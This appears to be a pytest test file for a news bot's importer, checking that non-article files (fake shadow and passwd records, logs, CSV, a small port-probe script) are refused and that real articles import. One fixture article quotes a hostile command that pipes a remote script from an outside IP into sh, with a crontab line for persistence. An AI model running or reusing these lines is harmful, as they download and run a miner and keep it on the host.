"""Files that are not articles are refused by the importer, with the reason; real
articles (seed text, Markdown, HTML) still import."""

from __future__ import annotations

from pathlib import Path

import pytest

from bot.news.import_prose import count_prose, is_sentence, prose_problem
from bot.news.importer import ImportFormatError, parse_article_file
from tests.conftest import FIXTURES

SHADOW = "".join(
    f"{user}:{'*' if i % 3 else '!'}:{19700 + i}:0:99999:7:::\n"
    for i, user in enumerate(
        ["root", "daemon", "bin", "sys", "sync", "games", "man", "lp", "mail", "news",
         "uucp", "proxy", "www-data", "backup", "list", "irc", "nobody", "sshd"]
    )
)
PASSWD = "".join(
    f"{user}:x:{i}:{i}:{user} account:/home/{user}:/usr/sbin/nologin\n"
    for i, user in enumerate(["root", "daemon", "bin", "sys", "postgres", "redis", "deploy"])
)
CSV = "id,host,port,last_seen\n" + "".join(
    f"{i},10.0.{i}.7,{8000 + i},2026-03-0{i % 9 + 1}\n" for i in range(12)
)
LOG = "".join(
    f"2026-03-0{i % 9 + 1} 12:0{i % 10}:17 INFO worker[{i}] accepted connection from "
    f"10.1.0.{i} in {i * 3} ms\n" for i in range(15)
)
ENV_FILE = "".join(f"SETTING_{i}=value-{i}\n" for i in range(10))
CODE = '''"""Helpers for the scanner."""

import socket
from dataclasses import dataclass


@dataclass
class Target:
    host: str
    port: int = 443


def probe(target: Target) -> bool:
    with socket.create_connection((target.host, target.port), timeout=2) as sock:
        sock.sendall(b"HEAD / HTTP/1.0\\r\\n\\r\\n")
        return sock.recv(12).startswith(b"HTTP/")


def main(argv: list[str]) -> int:
    hits = [t for t in map(Target, argv) if probe(t)]
    for hit in hits:
        print(hit.host)
    return 0 if hits else 1
'''

ARTICLE_WITH_SNIPPET = """# Attackers Abuse Exposed Build Servers to Mine Cryptocurrency

Researchers at a cloud security firm say attackers are scanning for build servers that
expose an unauthenticated script console to the internet.

Once they find one, they run a short script that downloads a miner and adds a cron job
so that it survives a reboot.

The researchers published the script they recovered from one of the compromised hosts:

```
curl -s http://198.51.100.7/x.sh | sh
echo "*/5 * * * * /tmp/.x/run" | crontab -
```

Administrators should restrict the console to trusted networks and require a login.
The firm counted more than four hundred exposed servers in a single week of scanning.
"""


@pytest.mark.parametrize(
    "name, content, reason",
    [
        ("shadow", SHADOW, "18 lines of key:value records and no prose sentences"),
        ("passwd", PASSWD, "lines of key:value records and no prose sentences"),
        ("hosts.csv", CSV, "lines of CSV rows and no prose sentences"),
        ("worker.log", LOG, "lines of log entries and no prose sentences"),
        (".env", ENV_FILE, "10 lines of key:value records and no prose sentences"),
        ("scanner.py", CODE, "lines of code"),
        ("notes.txt", "Title Of Nothing\n\nx y z\n\n12 34 56\n", "no prose sentences"),
    ],
)
def test_non_articles_are_refused_with_the_reason(
    tmp_path: Path, name: str, content: str, reason: str
) -> None:
    path = tmp_path / name
    path.write_text(content)
    with pytest.raises(ImportFormatError) as info:
        parse_article_file(path)
    message = str(info.value)
    assert message.startswith(f"{name}: not an article: ")
    assert reason in message


def test_code_with_a_docstring_is_refused_for_too_little_prose(tmp_path: Path) -> None:
    path = tmp_path / "tool.py"
    path.write_text('"""This module scans the hosts that the operator lists in a file."""\n'
                    + CODE)
    with pytest.raises(ImportFormatError, match=r"only 1 prose sentence among \d+ lines of code"):
        parse_article_file(path)


@pytest.mark.parametrize("path", sorted((FIXTURES / "articles").iterdir()), ids=lambda p: p.name)
def test_the_article_fixtures_still_import(path: Path) -> None:
    article = parse_article_file(path)
    assert article.title and article.text
    assert prose_problem([article.title, *article.text.split("\n")]) is None


def test_short_articles_and_articles_with_a_code_snippet_import(tmp_path: Path) -> None:
    short = tmp_path / "short.md"
    short.write_text("# A Markdown Story Title\n\nBody paragraph of the story goes here.\n")
    assert parse_article_file(short).title == "A Markdown Story Title"
    snippet = tmp_path / "snippet.md"
    snippet.write_text(ARTICLE_WITH_SNIPPET)
    assert parse_article_file(snippet).title.startswith("Attackers Abuse Exposed Build")


def test_sentence_rule() -> None:
    assert is_sentence("The vendor shipped a fix for the flaw on Tuesday.")
    assert is_sentence('He said the attack "was contained."')
    assert not is_sentence("The vendor shipped a fix")  # no end punctuation
    assert not is_sentence("Patch now.")  # too few words
    assert not is_sentence("root:*:19700:0:99999:7::: daemon:*:19700:0:99999:7:::.")
    assert not is_sentence("10.0.0.1 10.0.0.2 10.0.0.3 10.0.0.4 10.0.0.5 ok.")


def test_count_prose_splits_sentences_within_a_line() -> None:
    count = count_prose(["One sentence with enough words in it. Another sentence that also "
                         "has enough words!", "", "key: value"])
    assert (count.lines, count.sentences) == (2, 2)
    assert count.records and count.records["key:value records"] == 1
